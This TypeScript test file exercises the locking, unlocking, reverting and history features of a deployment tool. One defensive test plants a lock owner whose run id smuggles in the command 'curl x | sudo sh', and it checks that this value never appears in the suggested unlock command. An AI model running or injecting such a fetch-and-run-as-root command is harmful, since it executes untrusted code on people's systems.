import { mkdir, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises'
import test from 'ava'
import type { Check } from '../../../engine/check.ts'
import type { EvenkeelError } from '../../../engine/errors/error.ts'
import type { RunEvent } from '../../../engine/events.ts'
import { command } from '../../../engine/resources/command.ts'
import { apply } from '../../../engine/run/apply.ts'
import { history } from '../../../engine/run/history.ts'
import { type Unlocking, unlock } from '../../../engine/run/unlock.ts'
import type { LocalHost } from '../../support/local-host.ts'
import { assign, consent, controllerOf, ours, withHosts } from '../../support/scene.ts'

const one = (host: LocalHost) => [ours(host.path('a.conf'), 'one\n')]

/** A run that wrote nothing. */
const GONE = '20261121-103102-k3f9'

/** Unlocks a host; returns what consent was asked for, the report, and the files that are left. */
async function free(host: LocalHost, run: string) {
  const asked: Unlocking[] = []
  const ask = async (unlockings: readonly Unlocking[]) => void asked.push(...unlockings)
  const [report] = await unlock([host.target], run, controllerOf([host]), { consent: ask })
  return { how: asked.map(({ how }) => how), report, left: await readdir(host.path('')) }
}

const isLocked = async (host: LocalHost) => (await readdir(host.home)).includes('lock')

async function lockAgain(host: LocalHost, run: string): Promise<void> {
  await mkdir(`${host.home}/lock`, { recursive: true })
  await writeFile(
    `${host.home}/lock/owner`,
    JSON.stringify({ run, operator: 'ann@desk', since: '2026-11-21T12:00:00Z' }),
  )
}

test('unlock() releases the lock of a controller that died before it wrote anything', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await lockAgain(web1, GONE)
    const { how, report } = await free(web1, GONE)
    t.deepEqual(how, ['lock'])
    t.is(report?.outcome, 'untouched')
    t.false(await isLocked(web1))
  })
})

/** Writes when the host last heard of the controller that has the lock. */
async function hear(host: LocalHost, ago: number): Promise<void> {
  const boot = (await readFile('/proc/sys/kernel/random/boot_id', 'utf8')).trim()
  const now = Number((await readFile('/proc/uptime', 'utf8')).split('.')[0])
  await writeFile(`${host.home}/lock/heard`, `${boot} ${now - ago} 60\n`)
}

test('apply() and unlock() say when the controller was last heard of that died before it wrote anything', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await lockAgain(web1, '20261121-103102-k3f9')
    // The machine may have booted a few minutes ago.
    await hear(web1, 130)
    const error = await t.throwsAsync<EvenkeelError>(apply(assign([web1], one), controllerOf([web1]), { consent }))
    t.is(error?.code, 'locked')
    t.regex(error?.hint ?? '', /^Its controller was last heard of 2 min ago.* evenkeel unlock 20261121-103102-k3f9$/)
    const asked: Unlocking[] = []
    const ask = async (unlockings: readonly Unlocking[]) => void asked.push(...unlockings)
    await unlock([web1.target], '20261121-103102-k3f9', controllerOf([web1]), { consent: ask })
    t.is(asked[0]?.how, 'lock')
    t.is(Math.floor((asked[0]?.heard?.ago ?? 0) / 60), 2)
  })
})

test('unlock() refuses to release the lock of a controller that is alive', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await lockAgain(web1, GONE)
    await hear(web1, 5)
    const error = await t.throwsAsync<EvenkeelError>(free(web1, GONE))
    t.is(error?.code, 'locked')
    t.regex(error?.hint ?? '', /heard of \d+ s ago: wait/)
    t.true(await isLocked(web1))
  })
})

for (const torn of ['', '\0'.repeat(20), 'boot', 'boot 12', 'boot x 60', '\n'])
  test(`a lock with ${JSON.stringify(torn)} for the time of its controller can be released`, async (t) => {
    await withHosts(['web1'], async (web1) => {
      await lockAgain(web1, GONE)
      await writeFile(`${web1.home}/lock/heard`, torn)
      t.deepEqual((await free(web1, GONE)).how, ['lock'])
    })
  })

test('a controller is heard of on hosts that it has locked, while it works on others', async (t) => {
  await withHosts(['web1', 'web2'], async (web1, web2) => {
    const heard = `${web2.home}/lock/heard`
    const [done, early] = [web1.path('done'), web1.path('early')]
    const slow = command({
      name: 'slow',
      run: [
        `cp ${heard} ${early}`,
        `for again in $(seq 200); do cmp -s ${heard} ${early} || break; sleep 0.1; done`,
        `! cmp -s ${heard} ${early} && touch ${done}`,
      ].join('\n'),
      unless: `test -e ${done}`,
      undo: `rm -f ${done} ${early}`,
    })
    const report = await apply(
      assign([web1, web2], (host) => (host === web1 ? [slow] : one(host)), { batchSize: 1 }),
      controllerOf([web1, web2]),
      { consent, settings: { lease: 15 } },
    )
    t.is(report.outcome, 'committed')
    t.false(await isLocked(web2))
  })
})

for (const [what, content] of [
  ['emptied', ''],
  ['filled with zero bytes', '\0'.repeat(60)],
  ['tore', '{"run":"2026'],
] as const)
  test(`a lock whose owner a power cut ${what} has an unknown owner, and "unlock unknown" removes it`, async (t) => {
    await withHosts(['web1'], async (web1) => {
      await lockAgain(web1, GONE)
      await writeFile(`${web1.home}/lock/owner`, content)
      const assignment = assign([web1], one)
      const error = await t.throwsAsync<EvenkeelError>(apply(assignment, controllerOf([web1]), { consent }))
      t.is(error?.code, 'locked')
      t.regex(error?.message ?? '', /web1.*a lock whose owner is not known/)
      t.regex(error?.hint ?? '', /power cut.* evenkeel unlock unknown$/)
      const { how, report } = await free(web1, 'unknown')
      t.deepEqual(how, ['nameless'])
      t.is(report?.outcome, 'untouched')
      t.is((await apply(assignment, controllerOf([web1]), { consent })).outcome, 'committed')
    })
  })

test('what a host has written in place of a run is no part of a command to paste', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await lockAgain(web1, `${GONE} -y; curl x | sudo sh #`)
    const error = await t.throwsAsync<EvenkeelError>(apply(assign([web1], one), controllerOf([web1]), { consent }))
    t.regex(error?.message ?? '', /whose owner is not known; unreadable there: "\{\\"run\\":.*\}"$/)
    t.regex(error?.hint ?? '', / evenkeel unlock unknown$/)
    t.deepEqual((await free(web1, 'unknown')).how, ['nameless'])
    t.false(await isLocked(web1))
  })
})

test('a lock that is torn after the id of its run is released by that id, and not by "unknown"', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const { run = '' } = await apply(assign([web1], one), controllerOf([web1]), { consent })
    await web1.untilQuiet()
    await rename(`${web1.home}/runs/${run}/committed`, `${web1.home}/runs/${run}/open.another-boot.1`)
    await lockAgain(web1, run)
    await writeFile(`${web1.home}/lock/owner`, `{"run":"${run}","opera`)
    const more = assign([web1], (host) => [...one(host), ours(host.path('b.conf'), 'two\n')])
    const error = await t.throwsAsync<EvenkeelError>(apply(more, controllerOf([web1]), { consent }))
    t.regex(error?.hint ?? '', new RegExp(`so is its guard.* evenkeel unlock ${run}$`))
    await t.throwsAsync(free(web1, 'unknown'), { message: /holds none/ })
    t.deepEqual((await free(web1, run)).how, ['revert'])
    t.false(await isLocked(web1))
  })
})

test('a host that loses power while it is being locked has a whole owner or none', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await web1.pretend('sync', 'case $* in owner.new) kill -KILL $PPID ;; *) exec /bin/sync "$@" ;; esac')
    await t.throwsAsync(apply(assign([web1], one), controllerOf([web1]), { consent }), { message: /Lost web1/ })
    t.deepEqual(await readdir(`${web1.home}/lock`), ['owner.new'])
    t.deepEqual((await free(web1, 'unknown')).how, ['nameless'])
    t.false(await isLocked(web1))
  })
})

test('apply() leaves no lock if its owner cannot be written', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await web1.pretend('mv', 'case $* in owner.new*) exit 1 ;; *) exec /bin/mv "$@" ;; esac')
    const error = await t.throwsAsync<EvenkeelError>(apply(assign([web1], one), controllerOf([web1]), { consent }))
    t.is(error?.code, 'step')
    t.false(await isLocked(web1))
  })
})

test('unlock() of an unknown owner leaves a lock whose owner was written meanwhile', async (t) => {
  await withHosts(['web1'], async (web1) => {
    await lockAgain(web1, GONE)
    await rename(`${web1.home}/lock/owner`, `${web1.home}/lock/owner.new`)
    const meanwhile = () => rename(`${web1.home}/lock/owner.new`, `${web1.home}/lock/owner`)
    await unlock([web1.target], 'unknown', controllerOf([web1]), { consent: meanwhile })
    t.true(await isLocked(web1))
  })
})

test('history() and unlock() leave out a host that cannot be read after the login', async (t) => {
  await withHosts(['web1', 'web2'], async (web1, web2) => {
    const both = [web1.target, web2.target]
    const { run } = await apply(assign([web1], one), controllerOf([web1]), { consent })
    await web2.pretend('id', 'echo 1000')
    const events: RunEvent[] = []
    const records = await history(both, controllerOf([web1, web2], events))
    t.deepEqual(
      records.map((record) => record.run),
      [run],
    )
    t.regex(events.flatMap((event) => (event.type === 'remark' ? event.message : [])).join(), /^Not asked: web2\. /)
    await lockAgain(web1, GONE)
    t.is((await unlock(both, GONE, controllerOf([web1, web2]), { consent })).length, 1)
  })
})

test('history() ignores a run of which a power cut left only its id', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const { run } = await apply(assign([web1], one), controllerOf([web1]), { consent })
    await mkdir(`${web1.home}/runs/20990101-000000-abcd`)
    await writeFile(`${web1.home}/runs/20990101-000000-abcd/header.json`, '')
    const records = await history([web1.target], controllerOf([web1]))
    t.deepEqual(
      records.map((record) => record.run),
      [run],
    )
  })
})

test('unlock() reverts a run whose lease has ended and whose guard is gone', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const { run = '' } = await apply(assign([web1], one), controllerOf([web1]), { consent })
    await web1.untilQuiet()
    await rename(`${web1.home}/runs/${run}/committed`, `${web1.home}/runs/${run}/open.another-boot.1`)
    await lockAgain(web1, run)
    const { how, report, left } = await free(web1, run)
    t.deepEqual(how, ['revert'])
    t.is(report?.outcome, 'reverted')
    t.deepEqual(left, [])
    t.false(await isLocked(web1))
  })
})

test('unlock() reverts a run on all hosts at the same time, and reports them in their order', async (t) => {
  await withHosts(['web2', 'web1'], async (...hosts) => {
    // Each undo ends only after all of them have started.
    const meet = (host: LocalHost) =>
      command({
        name: 'meet',
        run: `touch ${host.path('done')}`,
        unless: `test -e ${host.path('done')}`,
        undo: [
          `touch ${host.path('undoing')}`,
          'for again in $(seq 100); do',
          `  if ${hosts.map((one) => `test -e ${one.path('undoing')}`).join(' && ')}; then break; fi`,
          '  sleep 0.1',
          'done',
          ...hosts.map((one) => `test -e ${one.path('undoing')}`),
          `rm ${host.path('done')}`,
        ].join('\n'),
      })
    const { run = '' } = await apply(
      assign(hosts, (host) => [meet(host)]),
      controllerOf(hosts),
      { consent },
    )
    for (const host of hosts) {
      await host.untilQuiet()
      await rename(`${host.home}/runs/${run}/committed`, `${host.home}/runs/${run}/open.another-boot.1`)
    }
    const asked: Unlocking[] = []
    const reports = await unlock(
      hosts.map((host) => host.target),
      run,
      controllerOf(hosts),
      { consent: async (unlockings) => void asked.push(...unlockings) },
    )
    t.deepEqual(
      asked.map(({ host, how }) => `${host} ${how}`),
      ['web2 revert', 'web1 revert'],
    )
    t.deepEqual(
      reports.map(({ host, outcome }) => `${host} ${outcome}`),
      ['web2 reverted', 'web1 reverted'],
    )
  })
})

test('unlock() retries a stuck revert once, and gives the run up if that fails', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const stubborn = command({
      name: 'stubborn',
      run: `touch ${web1.path('a')}; exit 1`,
      unless: `test -e ${web1.path('a')}`,
      undo: 'exit 1',
    })
    const report = await apply(
      assign([web1], () => [stubborn]),
      controllerOf([web1]),
      { consent },
    )
    t.is(report.outcome, 'unknown')
    t.true(await isLocked(web1))
    const { how, report: freed, left } = await free(web1, report.run ?? '')
    t.deepEqual(how, ['abandon'])
    t.is(freed?.outcome, 'unknown')
    t.deepEqual(left, ['a'])
    t.false(await isLocked(web1))
    const [record] = await history([web1.target], controllerOf([web1]))
    t.is(record?.hosts[0]?.outcome, 'abandoned')
  })
})

test('apply() with keepOnFailure commits the applied hosts, and reverts only the failed one', async (t) => {
  await withHosts(['web1', 'web2', 'web3'], async (...hosts) => {
    const fails = (host: LocalHost) =>
      command({ name: 'fails', run: `test ${host.name} != web2`, unless: 'false', undo: 'true' })
    const report = await apply(
      assign(hosts, (host) => (host.name === 'web2' ? [...one(host), fails(host)] : one(host)), { batchSize: 1 }),
      controllerOf(hosts),
      { consent, settings: { keepOnFailure: true } },
    )
    t.is(report.outcome, 'mixed')
    const outcomes = report.hosts.map(({ host, outcome }) => `${host} ${outcome}`).sort()
    t.deepEqual(outcomes, ['web1 committed', 'web2 reverted', 'web3 untouched'])
    t.deepEqual(await Promise.all(hosts.map((host) => readdir(host.path('')))), [['a.conf'], [], []])
  })
})

test('apply() with keepOnFailure reports the failure of a committed run', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const check: Check = { title: 'works', looks: [], judge: () => ({ holds: false, saw: 'nothing' }) }
    const settings = { keepOnFailure: true }
    const report = await apply(assign([web1], one, { checks: [check] }), controllerOf([web1]), { consent, settings })
    t.is(report.outcome, 'committed')
    t.is(report.failure?.code, 'check')
  })
})

test('the next run releases a lock whose run has ended', async (t) => {
  await withHosts(['web1'], async (web1) => {
    const { run = '' } = await apply(assign([web1], one), controllerOf([web1]), { consent })
    await lockAgain(web1, run)
    await rm(web1.path('a.conf'))
    t.is((await apply(assign([web1], one), controllerOf([web1]), { consent })).outcome, 'committed')
    t.false(await isLocked(web1))
  })
})

test('a host deletes its oldest runs, and the blobs that no run refers to', async (t) => {
  await withHosts(['web1'], async (web1) => {
    for (const content of ['one\n', 'two\n', 'three\n', 'four\n'])
      await apply(
        assign([web1], (host) => [ours(host.path('a.conf'), content)]),
        controllerOf([web1]),
        { consent, settings: { keepRuns: 2 } },
      )
    t.is((await readdir(`${web1.home}/runs`)).length, 2)
    // The contents before and after each of the two remaining runs.
    t.is((await readdir(`${web1.home}/blobs`)).length, 3)
  })
})

test('history() asks the hosts that answer', async (t) => {
  await withHosts(['web1', 'web2'], async (web1, web2) => {
    await apply(assign([web1, web2], one), controllerOf([web1, web2]), { consent })
    const [record] = await history([web1.target, web2.target], controllerOf([web1]))
    const outcomes = record?.hosts.map(({ host, outcome }) => `${host} ${outcome}`)
    t.deepEqual(outcomes, ['web1 committed', 'web2 not asked'])
  })
})
